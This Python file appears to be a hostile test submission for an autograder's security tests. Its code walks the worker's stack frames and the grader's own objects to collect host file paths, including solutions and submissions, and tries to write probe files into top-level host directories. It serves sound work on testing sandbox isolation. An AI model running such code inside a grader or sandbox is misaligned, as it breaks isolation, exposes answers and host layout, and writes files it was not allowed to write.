# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# Walk the worker's own stack (its frames' locals, and every object reachable from them: the zygote that forked
# it, its configuration, the messages it decoded) and print every path found: the wave-3 attack found the kit,
# solutions, submissions and output folders, the home folder and every top-level folder of the host. Prints
# go to the instructor's log, where tests/test_judge_hostile.py looks for the host's folders. Also try to write
# into each empty folder that covers a top-level folder of the host (docs/judge.md: read-only covers).
# >>> hostile
import sys as _sys


def _paths():
    found, seen, todo = set(), set(), []
    frame = _sys._getframe().f_back  # not this one: its own list of things to visit
    while frame is not None:
        todo.extend((v, 0) for v in frame.f_locals.values())
        frame = frame.f_back
    steps = 0
    while todo and steps < 50_000:
        steps += 1
        value, depth = todo.pop()
        if id(value) in seen or depth > 6:
            continue
        seen.add(id(value))
        if isinstance(value, str):
            if "/" in value:
                found.add(value)
        elif isinstance(value, bytes):
            if b"/" in value:
                found.add(value.decode("utf-8", "replace"))
        elif isinstance(value, dict):
            todo.extend((v, depth + 1) for pair in value.items() for v in pair)
        elif isinstance(value, (list, tuple, set, frozenset)):
            todo.extend((v, depth + 1) for v in value)
        elif type(value).__module__.startswith("autograder"):  # the kit's own objects (the zygote...)
            todo.extend((v, depth + 1) for v in getattr(value, "__dict__", {}).values())
    return found


def _writable_covers():
    import os as _os

    found = []
    for _entry in sorted(_os.listdir("/")):
        _path = "/" + _entry
        if _entry in ("tmp", "proc", "dev", "sys") or not _os.path.isdir(_path):
            continue
        try:
            with open(_path + "/.cover-probe", "w") as _f:
                _f.write("x")
            found.append(_path)
        except OSError:
            pass
    return found


print("COVERS-WRITABLE" + ",".join(_writable_covers()) + "END")
_mine = (_sys.prefix, _sys.base_prefix)
print("HOSTPATHS" + "\n".join(sorted(_paths(), key=lambda p: (p.startswith(_mine), p))) + "ENDPATHS")
# <<< hostile
